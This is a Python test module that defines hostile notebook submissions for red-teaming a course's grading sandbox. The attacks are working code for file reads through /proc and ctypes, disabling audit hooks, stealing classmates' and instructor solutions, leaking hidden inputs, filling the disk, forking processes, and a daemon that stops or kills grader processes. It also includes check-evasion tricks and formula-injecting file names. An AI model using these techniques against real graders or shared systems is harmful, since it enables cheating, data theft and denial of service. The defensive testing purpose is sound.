"""Attack submissions against the sandbox (issue 11), built on :mod:`hostile.kit`'s test notebook.

Each attack is a submission of ``zz_grader_test`` whose answer cells try to get something the
sandbox must not give: a file outside it, a hidden input, a neighbour's leftovers, a process or
pipe of the grader, more disk, processes or memory than its share. An attack that *succeeds*
returns the right answer (``2 * x`` for ``double_it``), so a leak shows up as a passed exercise;
when the sandbox holds, the same code returns ``x`` and the exercise fails.

The grader runs only the statements an answer needs, so every side effect of an attack feeds a
name its answer reads (``STOLEN = _steal()``, ``return 2 * x + 0 * len(_KEEP)``): it always runs.

Attacks look for the grader's process by its command line (``--out`` and the run's token): the
token keeps them from touching any other process of the machine, should the sandbox not hold.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass, field

from tests.hostile import kit

#: exercise statuses meaning "the attack gained nothing on this exercise" (score 0)
NOT_PASSED = frozenset({"failed", "error", "crashed", "timeout", "memory limit", "forbidden code",
                        "uses the reference implementation", "not attempted", "missing"})


@dataclass(frozen=True)
class Context:
    """Where one mode's run lives; everything an attack may aim at.

    Attributes
    ----------
    token : str
        Unique to the run: in the grader's command line, the daemon's and the leftovers' names.
    out_dir, submissions_dir : str
        The grader's ``--out`` folder and the folder it grades.
    classmate : str
        A world-readable notebook of another student (solved), outside every sandbox.
    port : int
        A TCP port on 127.0.0.1 where the test listens.
    repo_dir : str
        The folder holding ``course_lib/``, ``notebooks/`` and ``tests/hostile/`` for this run.
    """

    token: str
    out_dir: str
    submissions_dir: str
    classmate: str
    port: int
    repo_dir: str

    @property
    def course_lib_dir(self) -> str:
        return os.path.join(self.repo_dir, "course_lib")

    @property
    def secret_files(self) -> list:
        """Files holding hidden tests or solutions: the bank, the test notebook's exercises, a solved notebook."""
        return [os.path.join(self.course_lib_dir, "grading", "exercises", "bank", "nb00.py"),
                os.path.join(self.repo_dir, "tests", "hostile", "kit.py"),
                os.path.join(self.repo_dir, "notebooks", "00_start_here.ipynb")]

    @property
    def shm_key(self) -> int:
        return int(self.token[:7], 16) | 1

    @property
    def leftover_paths(self) -> list:
        return [f"/dev/shm/cl_redteam_{self.token}", f"/tmp/cl_redteam_{self.token}"]


@dataclass(frozen=True)
class Attack:
    """One hostile submission and what must come of it.

    ``expected`` maps an exercise id to the statuses it may get (each scores 0 unless "passed");
    every other exercise must pass with full points, unless ``whole_submission`` (the attack may
    cost its whole submission, which must still get a result).
    """

    cells: list
    expected: dict
    whole_submission: bool = False
    doc: str = ""


@dataclass
class Suite:
    main: dict = field(default_factory=dict)  # name -> Attack, graded in one batch (jobs=2)
    neighbours: dict = field(default_factory=dict)  # graded in order in one slot (jobs=1)


# --- pieces of attack code ----------------------------------------------------------------------

def _libc_read() -> str:
    """``_read(path) -> bytes``: plain ``open``, then libc's ``open`` (past any Python-level hook)."""
    return (
        "import ctypes, os\n"
        "_libc = ctypes.CDLL(None, use_errno=True)\n"
        "def _read(path):\n"
        "    try:\n"
        "        with open(path, 'rb') as handle:\n"
        "            return handle.read(1 << 20)\n"
        "    except Exception:\n"
        "        pass\n"
        "    fd = _libc.open(os.fsencode(path), os.O_RDONLY)\n"
        "    if fd < 0:\n"
        "        return b''\n"
        "    buf = ctypes.create_string_buffer(1 << 20)\n"
        "    n = _libc.read(fd, buf, 1 << 20)\n"
        "    _libc.close(fd)\n"
        "    return buf.raw[:max(n, 0)]\n")


def _find_grader(token: str) -> str:
    """``_graders() -> [(pid, argv)]``: processes whose command line has ``--out`` and the run's token."""
    return (
        "import os\n"
        "def _graders():\n"
        "    found = []\n"
        "    for entry in os.listdir('/proc'):\n"
        "        if not entry.isdigit() or int(entry) == os.getpid():\n"
        "            continue\n"
        "        try:\n"
        "            with open('/proc/%s/cmdline' % entry, 'rb') as handle:\n"
        "                argv = handle.read().decode('utf-8', 'replace').split('\\0')\n"
        "        except Exception:\n"
        "            continue\n"
        f"        if '--out' in argv and any({token!r} in a for a in argv):\n"
        "            found.append((int(entry), argv))\n"
        "    return found\n")


_LOAD_MODULE = (  # import a module without an import statement a static check would see
    "import ctypes\n"
    "def _module(name):\n"
    "    load = ctypes.pythonapi.PyImport_ImportModule\n"
    "    load.restype, load.argtypes = ctypes.py_object, [ctypes.c_char_p]\n"
    "    return load(name.encode())\n")

_RUN_SOURCE = _LOAD_MODULE + (  # run a stolen cell: builtins' exec, which no static check sees by name
    "def _run(source):\n"
    "    scope = {'np': np}\n"
    "    _module('builtins').exec(source, scope)\n"
    "    return scope\n")


def _if_stolen(flag: str) -> str:
    return f"def double_it(x):\n    return 2 * x if {flag} else x\n"


def _double_it_attack(body: str, flag: str = "STOLEN") -> list:
    return kit.good_cells({"double_it": body + _if_stolen(flag)})


# --- the attacks --------------------------------------------------------------------------------

def _disk_reads(ctx: Context) -> dict:
    targets = f"TARGETS = {ctx.secret_files!r}\n"
    fails = {"double_it": NOT_PASSED}
    dir_fd = targets + (
        "import os\n"
        "PROC = os.open('/proc', os.O_RDONLY)\n"
        "def _steal():\n"
        "    for path in TARGETS:\n"
        "        try:\n"
        "            # relative to /proc (readable), through the root link: no absolute path to check\n"
        "            fd = os.open('self/root' + path, os.O_RDONLY, dir_fd=PROC)\n"
        "            data = os.read(fd, 1 << 16)\n"
        "            if data:\n"
        "                return data\n"
        "        except OSError:\n"
        "            pass\n"
        "    return b''\n"
        "STOLEN = _steal()\n")
    libc = targets + (
        "import ctypes, os\n"
        "_libc = ctypes.CDLL(None, use_errno=True)\n"
        "def _steal():\n"
        "    for path in TARGETS:\n"
        "        fd = _libc.open(path.encode(), os.O_RDONLY)\n"
        "        if fd >= 0:\n"
        "            buf = ctypes.create_string_buffer(1 << 16)\n"
        "            n = _libc.read(fd, buf, 1 << 16)\n"
        "            _libc.close(fd)\n"
        "            if n > 0:\n"
        "                return buf.raw[:n]\n"
        "    return b''\n"
        "STOLEN = _steal()\n")
    hook_off = targets + _LOAD_MODULE + (
        "def _switch_off():\n"
        "    for obj in _module('gc').get_objects():\n"
        "        kind = type(obj).__name__.lower()\n"
        "        if callable(obj) and hasattr(obj, '__dict__') and any(w in kind for w in "
        "('block', 'hook', 'audit', 'guard', 'fence')):\n"
        "            for key, value in list(obj.__dict__.items()):\n"
        "                if isinstance(value, str):\n"
        "                    obj.__dict__[key] = '/nowhere-at-all/'\n"
        "                elif isinstance(value, (tuple, list, set, frozenset)):\n"
        "                    obj.__dict__[key] = ('/',)\n"
        "                elif isinstance(value, bool):\n"
        "                    obj.__dict__[key] = True\n"
        "def _steal():\n"
        "    _switch_off()\n"
        "    for path in TARGETS:\n"
        "        try:\n"
        "            with open(path, 'rb') as handle:\n"
        "                data = handle.read()\n"
        "            if data:\n"
        "                return data\n"
        "        except Exception:\n"
        "            pass\n"
        "    return b''\n"
        "STOLEN = _steal()\n")
    own_cmdline = _libc_read() + (
        "def _steal():\n"
        "    argv = _read('/proc/self/cmdline').decode('utf-8', 'replace').split('\\0')\n"
        "    for arg in argv:\n"
        "        if not arg.startswith('/'):\n"
        "            continue\n"
        "        folder = os.path.dirname(arg)\n"
        "        for _ in range(4):\n"
        "            for rel in ('bank/nb00.py', 'grading/bank/nb00.py', 'course_lib/grading/exercises/bank/nb00.py',\n"
        "                        'tests/hostile/kit.py'):\n"
        "                data = _read(os.path.join(folder, rel))\n"
        "                if data:\n"
        "                    return data\n"
        "            folder = os.path.dirname(folder)\n"
        "    return b''\n"
        "STOLEN = _steal()\n")
    grader_cmdline = _libc_read() + _find_grader(ctx.token) + (
        "def _steal():\n"
        "    for _, argv in _graders():\n"
        "        for arg in argv:\n"
        "            try:\n"
        "                names = os.listdir(arg)\n"
        "            except Exception:\n"
        "                continue\n"
        "            for name in names:\n"
        "                if name.endswith('.ipynb') and b'return 2 * x' in _read(os.path.join(arg, name)):\n"
        "                    return True\n"
        "        if '--out' in argv:\n"
        "            out = argv[argv.index('--out') + 1]\n"
        "            for rel in ('grades.csv', 'feedback/aaa_good.md'):\n"
        "                try:\n"
        "                    with open(os.path.join(out, rel), 'a') as handle:\n"
        "                        handle.write('HACKED')\n"
        "                except Exception:\n"
        "                    pass\n"
        "    return False\n"
        "STOLEN = _steal()\n")
    classmate = _libc_read() + _RUN_SOURCE + (
        "import json\n"
        "def _steal():\n"
        f"    raw = _read({ctx.classmate!r})\n"
        "    if not raw:\n"
        "        return None\n"
        "    for cell in json.loads(raw)['cells']:\n"
        "        source = ''.join(cell['source'])\n"
        "        if 'def double_it' in source:\n"
        "            return _run(source).get('double_it')\n"
        "STOLEN = _steal()\n"
        "def double_it(x):\n"
        "    return STOLEN(x) if STOLEN else x\n")
    kit_py = os.path.join(ctx.repo_dir, "tests", "hostile", "kit.py")
    notebooks = os.path.join(ctx.repo_dir, "notebooks")
    instructor = _libc_read() + _RUN_SOURCE + (
        "import ast\n"
        "def _steal():\n"
        "    try:\n"
        f"        if os.listdir({notebooks!r}):\n"
        "            SEEN_NOTEBOOKS.append(True)\n"
        "    except Exception:\n"
        "        pass\n"
        f"    text = _read({kit_py!r}).decode('utf-8', 'replace')\n"
        "    if not text:\n"
        "        return None\n"
        "    for node in ast.walk(ast.parse(text)):\n"
        "        if isinstance(node, ast.Assign) and getattr(node.targets[0], 'id', '') == 'GOOD_ANSWERS':\n"
        "            answers = ast.literal_eval(node.value)\n"
        "            return _run(answers['double_it']).get('double_it')\n"
        "SEEN_NOTEBOOKS = []\n"
        "STOLEN = _steal()\n"
        "def double_it(x):\n"
        "    if STOLEN:\n"
        "        return STOLEN(x)\n"
        "    return 2 * x if SEEN_NOTEBOOKS else x\n")
    return {
        "disk_os_open_dir_fd": Attack(_double_it_attack(dir_fd), fails, doc="os.open(name, dir_fd=...) of the bank"),
        "disk_libc_open": Attack(_double_it_attack(libc), fails, doc="libc open() through ctypes"),
        "disk_audit_hook_off_via_gc": Attack(_double_it_attack(hook_off), fails,
                                             doc="an audit hook found through gc, its fields rewritten"),
        "disk_bank_from_proc_self_cmdline": Attack(_double_it_attack(own_cmdline), fails,
                                                   doc="the bank beside the worker script in /proc/self/cmdline"),
        "disk_paths_from_grader_cmdline": Attack(_double_it_attack(grader_cmdline), fails,
                                                 doc="the submissions and --out folders named in the grader's cmdline"),
        "disk_classmates_notebook": Attack(kit.good_cells({"double_it": classmate}), fails,
                                           doc="a world-readable classmate's notebook, her answer executed"),
        "disk_instructors_notebooks": Attack(kit.good_cells({"double_it": instructor}), fails,
                                             doc="the instructor's notebooks/ and solutions, executed"),
    }


def _leaks(ctx: Context) -> dict:
    keeps = {
        "double_it": "SEEN = []\ndef double_it(x):\n    SEEN.append(x)\n    return 2 * x\n",
        "add_them": ("def add_them(a, b):\n"
                     "    numbers = sorted((float(v) for arg in SEEN for v in np.ravel(arg)), key=abs, reverse=True)\n"
                     "    raise ValueError('LEAK ' + ' '.join(repr(v) for v in numbers))\n"),
    }
    gc_scan = _LOAD_MODULE + (
        "import base64, io\n"
        "gc = _module('gc')\n"
        "def _numbers():\n"
        "    found = []\n"
        "    for obj in gc.get_objects():\n"
        "        children = (list(obj.values()) if isinstance(obj, dict) else\n"
        "                    list(obj) if isinstance(obj, (list, tuple)) else [])\n"
        "        for item in [obj] + children[:1000]:  # a dict of strings is not tracked by gc: look one level down\n"
        "            try:\n"
        "                if isinstance(item, np.ndarray) and item.dtype.kind == 'f':\n"
        "                    found += [float(v) for v in item.ravel()[:1000]]\n"
        "                elif isinstance(item, dict) and isinstance(item.get('a'), str):\n"
        "                    array = np.load(io.BytesIO(base64.b64decode(item['a'])), allow_pickle=False)\n"
        "                    found += [float(v) for v in np.ravel(array)[:1000]]\n"
        "                elif type(item) is float:\n"
        "                    found.append(item)\n"
        "            except Exception:\n"
        "                pass\n"
        "    return sorted({v for v in found if 1000.0 < abs(v) < 1e6}, key=abs, reverse=True)\n"
        "def double_it(x):\n"
        "    numbers = _numbers()\n"
        "    if numbers:\n"
        "        raise ValueError('LEAK ' + ' '.join(repr(v) for v in numbers[:20]))\n"
        "    return x\n")
    error_message = ("def double_it(x):\n"
                     "    raise ValueError('LEAK ' + ' '.join(repr(float(v)) for v in np.ravel(x)))\n")
    socket_attack = (
        "import socket\n"
        "def _phone_home():\n"
        "    try:\n"
        "        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as conn:\n"
        "            conn.settimeout(1.0)\n"
        f"            conn.connect((b'127.0.0.1', {ctx.port}))  # bytes: no idna codec needed\n"
        f"            conn.sendall(b'LEAK {ctx.token}')\n"
        "            return True\n"
        "    except OSError:\n"
        "        return False\n"
        "STOLEN = _phone_home()\n")
    return {
        "leak_args_kept_for_a_later_error": Attack(kit.good_cells(keeps), {"double_it": {"passed"},
                                                                           "add_them": NOT_PASSED},
                                                   doc="hidden inputs kept in a global, printed by a later error"),
        "leak_gc_scan_for_cases": Attack(kit.good_cells({"double_it": gc_scan}), {"double_it": NOT_PASSED},
                                         doc="gc.get_objects() scanned for the evaluation command's cases"),
        "leak_hidden_error_message": Attack(kit.good_cells({"double_it": error_message}),
                                            {"double_it": NOT_PASSED},
                                            doc="an error message carrying the (hidden) input"),
        "leak_socket_to_localhost": Attack(_double_it_attack(socket_attack), {"double_it": NOT_PASSED},
                                           doc="a raw TCP connection to a listener on 127.0.0.1"),
    }


def _stalls(ctx: Context) -> dict:
    stop_reading = (
        "import os\n"
        "def _stop_reading():\n"
        "    keep = []\n"
        "    for fd in range(0, 256):\n"
        "        try:\n"
        "            kind = os.readlink('/proc/self/fd/%d' % fd)\n"
        "            with open('/proc/self/fdinfo/%d' % fd) as info:\n"
        "                flags = int(info.read().split('flags:')[1].split()[0], 8)\n"
        "        except (OSError, IndexError, ValueError):\n"
        "            continue\n"
        "        if kind.startswith('pipe:') and flags & 3 == 0:  # a read end: the worker's commands\n"
        "            r, w = os.pipe()\n"
        "            keep += [os.dup(fd), w]  # the real pipe stays open, nobody reads it again\n"
        "            os.dup2(r, fd)\n"
        "    return keep\n"
        "_KEEP = _stop_reading()\n"
        "def double_it(x):\n"
        "    return 2 * x + 0 * len(_KEEP)\n")
    # the next command (this cell) is far larger than a pipe's buffer
    big_next = f"PAD = {'p' * 180_000!r}\ndef add_them(a, b):\n    return a + b + 0 * len(PAD)\n"
    fill_disk = (
        "import os, tempfile\n"
        "def _fill(limit=768 << 20):\n"
        "    written, chunk = 0, b'0' * (15 << 20)\n"
        "    for folder in (tempfile.gettempdir(), os.path.expanduser('~'), os.getcwd(), '/tmp', '/dev/shm'):\n"
        "        for k in range(1000):\n"
        "            try:\n"
        f"                with open(os.path.join(folder, 'fill_{ctx.token}_%d.bin' % k), 'wb') as handle:\n"
        "                    handle.write(chunk)\n"
        "                written += len(chunk)\n"
        "                if written >= limit:\n"
        "                    return written\n"
        "            except OSError:\n"
        "                break\n"
        "    return written\n"
        "WROTE = _fill()\n"
        "STOLEN = WROTE >= (768 << 20)\n")
    forty_files = (
        "import os\n"
        "def _forty():\n"
        "    chunk = b'1' * (16 << 20)\n"
        "    for k in range(40):\n"
        "        try:\n"
        "            with open('part_%02d.bin' % k, 'wb') as handle:\n"
        "                handle.write(chunk)\n"
        "        except OSError:\n"
        "            return k\n"
        "    return 40\n"
        "STOLEN = _forty() == 40\n")
    stray = (
        "import base64, io, json, os, struct\n"
        "def _frame(message):\n"
        "    data = json.dumps(message).encode()\n"
        "    return struct.pack('>Q', len(data)) + data\n"
        "def _plain(value):\n"
        "    buffer = io.BytesIO()\n"
        "    np.save(buffer, np.asarray(value, dtype=float), allow_pickle=False)\n"
        "    return {'a': base64.b64encode(buffer.getvalue()).decode()}\n"
        "def double_it(x):\n"
        "    forged = b''.join(_frame({'type': 'case', 'step': step, 'index': index, 'value': _plain(2 * x),\n"
        "                              'blocked': 0}) for step in range(40) for index in range(3))\n"
        "    forged += b''.join(_frame({'type': 'eval_done', 'step': step, 'blocked': 0}) for step in range(40))\n"
        "    flood = _frame({'type': 'case', 'step': 10 ** 6, 'value': 'x' * (1 << 20)})\n"
        "    for fd in range(0, 64):\n"
        "        try:\n"
        "            os.write(fd, forged)\n"
        "            for _ in range(256):\n"
        "                os.write(fd, flood)\n"
        "        except OSError:\n"
        "            pass\n"
        "    return x\n")
    statements = "def double_it(x):\n    return 2 * x\n" + "y = 0\n" * ((2 << 20) // 6 + 1)
    comments = "def double_it(x):\n    return 2 * x\n" + ("#" * 1023 + "\n") * (17 << 10)
    big = {"double_it": NOT_PASSED}
    return {
        "stall_stops_reading_commands": Attack(kit.good_cells({"double_it": stop_reading, "add_them": big_next}),
                                               {}, whole_submission=True,
                                               doc="the worker keeps its command pipe open and never reads it"),
        "disk_fill_until_enospc": Attack(_double_it_attack(fill_disk), {"double_it": NOT_PASSED},
                                         doc="writes into /tmp, home and cwd until no space is left"),
        "disk_640mib_in_40_files": Attack(_double_it_attack(forty_files), {"double_it": NOT_PASSED},
                                          doc="40 files of 16 MiB: the disk cap is a total, not per file"),
        "stray_result_frames": Attack(kit.good_cells({"double_it": stray}), {"double_it": NOT_PASSED},
                                      doc="forged and flooding frames written to every file descriptor"),
        "big_cell_2mb": Attack(kit.good_cells({"double_it": statements}), big, whole_submission=True,
                               doc="a 2 MB answer cell of statements"),
        "big_cell_17mb": Attack(kit.good_cells({"double_it": comments}), big, whole_submission=True,
                                doc="a 17 MB answer cell"),
    }


def _processes(ctx: Context) -> dict:
    traceme = (
        "import ctypes, os, signal\n"
        "def double_it(x):\n"
        "    ctypes.CDLL(None).ptrace(0, 0, None, None)  # PTRACE_TRACEME\n"
        "    os.kill(os.getpid(), signal.SIGSTOP)\n"
        "    return 2 * x\n")
    forge_cache = _find_grader(ctx.token) + (
        "import json\n"
        "def _forge():\n"
        "    seen = False\n"
        "    for _, argv in _graders():\n"
        "        out = argv[argv.index('--out') + 1]\n"
        "        cache = os.path.join(out, '.cache')\n"
        "        try:\n"
        "            names = os.listdir(cache)\n"
        "            seen = True\n"
        "        except Exception:\n"
        "            continue\n"
        "        for name in names + ['forged-entry.json']:\n"
        "            try:\n"
        "                with open(os.path.join(cache, name), 'w') as handle:\n"
        "                    json.dump({'forged': True}, handle)\n"
        "            except Exception:\n"
        "                pass\n"
        "    return seen\n"
        "STOLEN = _forge()\n")
    oom = _find_grader(ctx.token) + (
        "import ctypes\n"
        "_libc = ctypes.CDLL(None, use_errno=True)\n"
        "def _doom():\n"
        "    done = False\n"
        "    for pid, _ in _graders():\n"
        "        fd = _libc.open(b'/proc/%d/oom_score_adj' % pid, os.O_WRONLY)\n"
        "        if fd >= 0:\n"
        "            done = _libc.write(fd, b'1000', 4) == 4 or done\n"
        "            _libc.close(fd)\n"
        "    return done\n"
        "STOLEN = _doom()\n")
    forks = (
        "import ctypes\n"
        "_libc = ctypes.CDLL(None, use_errno=True)\n"
        "def _spawn(count=200):\n"
        "    made = 0\n"
        "    for _ in range(count):\n"
        "        pid = _libc.fork()\n"
        "        if pid == 0:\n"
        "            _libc.sleep(3)\n"
        "            _libc._exit(0)\n"
        "        if pid < 0:\n"
        "            break\n"
        "        made += 1\n"
        "    return made\n"
        "STOLEN = _spawn() >= 200\n")
    return {
        "ptrace_traceme_and_sigstop": Attack(kit.good_cells({"double_it": traceme}),
                                             {"double_it": {"timeout", "crashed", "passed"}},
                                             doc="PTRACE_TRACEME, then SIGSTOP to itself"),
        "forges_a_cache_entry": Attack(_double_it_attack(forge_cache), {"double_it": NOT_PASSED},
                                       doc="writes forged entries into the output folder's .cache/"),
        "writes_graders_oom_score_adj": Attack(_double_it_attack(oom), {"double_it": NOT_PASSED},
                                               doc="makes the grader the OOM killer's first victim"),
        "forks_200_through_libc": Attack(_double_it_attack(forks), {"double_it": NOT_PASSED},
                                         doc="200 processes forked through libc"),
    }


def _logic(ctx: Context) -> dict:
    complex_answer = "def double_it(x):\n    return 2 * x + 1j\n"
    return {"complex_real_part_right": Attack(kit.good_cells({"double_it": complex_answer}),
                                              {"double_it": {"failed"}},
                                              doc="a complex array whose real part is right")}


def _loop_cheats(ctx: Context) -> dict:
    """Python loops in the loop-free ``row_sums``, bound or reached in every way issue 22 lists, and
    course_lib's forbidden ``l1_penalty`` reached by a name built at run time: all judged by what runs."""
    loop = {"row_sums": {"forbidden code"}}
    rows_loop = "    out = []\n    for r in X:\n        out.append(r.sum())\n    return np.array(out)\n"
    indented = "".join("    " + line + "\n" for line in rows_loop.splitlines())
    cheats = {
        "if_true": "if True:\n    def row_sums(X):\n" + indented,
        "try_block": ("try:\n    def row_sums(X):\n" + indented
                      + "except Exception:\n    pass\n"),
        "tuple_binding": "row_sums, _unused = (lambda X: np.array([r.sum() for r in X])), 0\n",
        "walrus": "(row_sums := lambda X: np.array([r.sum() for r in X]))\n",
        "exec_string": f"exec({('def row_sums(X):' + chr(10) + rows_loop)!r})\n",
        "globals_name": "globals()['row' + '_sums'] = lambda X: np.array(list(map(np.sum, X)))\n",
        "code_swap": ("def row_sums(X):\n    return X.sum(axis=1)\n"
                      "def _looping(X):\n    return np.array([r.sum() for r in X])\n"
                      "row_sums.__code__ = _looping.__code__\n"),
        "mutual_recursion": ("def _first(X):\n    return np.zeros(0) if len(X) == 0 else "
                             "np.concatenate([[X[0].sum()], _second(X[1:])])\n"
                             "def _second(X):\n    return _first(X)\n"
                             "def row_sums(X):\n    return _first(X)\n"),
        "sorted_key": ("def row_sums(X):\n    out = []\n"
                       "    sorted(range(len(X)), key=lambda i: out.append(X[i].sum()) or i)\n"
                       "    return np.array(out)\n"),
        "iter_sentinel": ("def row_sums(X):\n    k = [0]\n    def step():\n        if k[0] == len(X):\n"
                          "            return None\n        k[0] += 1\n        return X[k[0] - 1].sum()\n"
                          "    return np.array(list(iter(step, None)))\n"),
        "decorator": ("def per_row(f):\n    def wrapper(X):\n        return np.array([f(r) for r in X])\n"
                      "    return wrapper\n@per_row\ndef row_sums(r):\n    return r.sum()\n"),
    }
    out = {f"loop_{name}": Attack(kit.good_cells({"row_sums": source}), loop, doc=f"a Python loop: {name}")
           for name, source in cheats.items()}
    out["forbidden_by_a_built_name"] = Attack(
        kit.good_cells({"row_sums": "import course_lib as cl\ndef row_sums(X):\n"
                                    "    getattr(cl, 'l1_' + 'pen' + 'alty')(X)\n    return X.sum(axis=1)\n"}),
        {"row_sums": {"uses the reference implementation"}}, doc="getattr(cl, 'l1_' + 'pen' + 'alty')")
    out["forbidden_by_code_identity"] = Attack(
        kit.good_cells({"row_sums": "import course_lib as cl\ndef _mine(W):\n    return 0.0\n"
                                    "_mine.__code__ = cl.l1_penalty.__code__\n"
                                    "def row_sums(X):\n    _mine(X)\n    return X.sum(axis=1)\n"}),
        {"row_sums": {"uses the reference implementation"}}, doc="its code copied into the student's function")
    return out


#: file names (besides the attacks') that must each get their own row, showing the name, in grades.csv
ODD_FILE_NAMES = ("Bob\tSmith.ipynb", "Bob_Smith.ipynb", "-2-3.ipynb", "=cmd.ipynb", "@sum(A1).ipynb",
                  "+1.ipynb")


def _neighbours(ctx: Context) -> dict:
    """Graded in this order, one after another in the same slot."""
    first, second = ctx.leftover_paths
    leave = (
        "import ctypes, os\n"
        "_libc = ctypes.CDLL(None, use_errno=True)\n"
        "_libc.shmat.restype = ctypes.c_void_p\n"
        "def _leave():\n"
        f"    for path in ({first!r}, {second!r}, os.path.expanduser('~/note')):\n"
        "        fd = _libc.open(os.fsencode(path), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o666)\n"
        "        if fd >= 0:\n"
        "            _libc.write(fd, b'return 2 * x', 12)\n"
        "            _libc.close(fd)\n"
        f"    segment = _libc.shmget({ctx.shm_key}, 4096, 0o1666)  # IPC_CREAT | 0666\n"
        "    if segment >= 0:\n"
        "        address = _libc.shmat(segment, None, 0)\n"
        "        if address not in (None, ctypes.c_void_p(-1).value):\n"
        "            ctypes.memmove(address, b'return 2 * x', 12)\n"
        "            _libc.shmdt(ctypes.c_void_p(address))\n"
        "    return [segment]\n"
        "_LEFT = _leave()\n"
        "def double_it(x):\n"
        "    return 2 * x + 0 * len(_LEFT)\n")
    find = _libc_read() + (
        "_libc.shmat.restype = ctypes.c_void_p\n"
        "def _find():\n"
        f"    for path in ({first!r}, {second!r}, os.path.expanduser('~/note')):\n"
        "        if b'return 2 * x' in _read(path):\n"
        "            return True\n"
        f"    segment = _libc.shmget({ctx.shm_key}, 0, 0)\n"
        "    if segment >= 0:\n"
        "        address = _libc.shmat(segment, None, 0)\n"
        "        if address not in (None, ctypes.c_void_p(-1).value):\n"
        "            return ctypes.string_at(address, 12) == b'return 2 * x'\n"
        "    return False\n"
        "STOLEN = _find()\n")
    daemon_loop = (
        "import os, signal, sys, time\n"
        "mark, worker_mark = sys.argv[1].encode(), sys.argv[2].encode()\n"
        "token = mark[len(b'cl_redteam_daemon_'):]\n"
        "end = time.time() + 40\n"
        "while time.time() < end:\n"
        "    for entry in os.listdir('/proc'):\n"
        "        if not entry.isdigit() or int(entry) == os.getpid():\n"
        "            continue\n"
        "        try:\n"
        "            with open('/proc/%s/cmdline' % entry, 'rb') as handle:\n"
        "                argv = handle.read()\n"
        "        except OSError:\n"
        "            continue\n"
        "        if b'cl_redteam_daemon_' in argv:\n"
        "            continue\n"
        "        if token in argv and b'--out' in argv:\n"
        "            sig = signal.SIGSTOP\n"
        "        elif worker_mark in argv:\n"
        "            sig = signal.SIGKILL\n"
        "        else:\n"
        "            continue\n"
        "        try:\n"
        "            os.kill(int(entry), sig)\n"
        "        except OSError:\n"
        "            pass\n"
        "    time.sleep(0.05)\n")
    worker_mark = os.path.join(ctx.course_lib_dir, "grading")
    daemon = (
        "import ctypes, os, sys\n"
        "_libc = ctypes.CDLL(None, use_errno=True)\n"
        f"_argv = [sys.executable, '-c', {daemon_loop!r}, {'cl_redteam_daemon_' + ctx.token!r}, {worker_mark!r}]\n"
        "def _daemonize():\n"
        "    if _libc.fork() != 0:\n"
        "        return\n"
        "    _libc.setsid()\n"
        "    if _libc.fork() != 0:\n"
        "        _libc._exit(0)\n"
        "    args = (ctypes.c_char_p * (len(_argv) + 1))(*[os.fsencode(a) for a in _argv], None)\n"
        "    _libc.execv(os.fsencode(sys.executable), args)\n"
        "    _libc._exit(0)\n"
        "_DAEMON = [_daemonize()]\n"
        "def double_it(x):\n"
        "    return 2 * x + 0 * len(_DAEMON)\n")
    return {
        "a1_leaves_files_and_shm": Attack(kit.good_cells({"double_it": leave}), {},
                                          doc="writes /dev/shm, /tmp, home and a System V segment"),
        "a2_setsid_daemon": Attack(kit.good_cells({"double_it": daemon}), {},
                                   doc="a double-forked setsid daemon that stops the grader and kills workers"),
        "b1_reads_the_leftovers": Attack(_double_it_attack(find), {"double_it": NOT_PASSED},
                                         doc="looks for what the first submission left"),
        "b2_good": Attack(kit.good_cells(), {}),
        "b3_good": Attack(kit.good_cells(), {}),
    }


def suite(ctx: Context) -> Suite:
    """Every attack of issue 11, for one run (one mode)."""
    main = {"aaa_good": Attack(kit.good_cells(), {})}
    for part in (_disk_reads, _leaks, _stalls, _processes, _logic, _loop_cheats):
        main.update(part(ctx))
    main["zzz_good"] = Attack(kit.good_cells(), {})
    return Suite(main, _neighbours(ctx))


def classmate_notebook() -> bytes:
    """A solved notebook of another student."""
    return kit.notebook(kit.good_cells())


def dump(attacks: dict) -> str:
    """The attacks' expectations as JSON (for a report)."""
    return json.dumps({name: {k: sorted(v) for k, v in a.expected.items()} for name, a in attacks.items()},
                      indent=1)
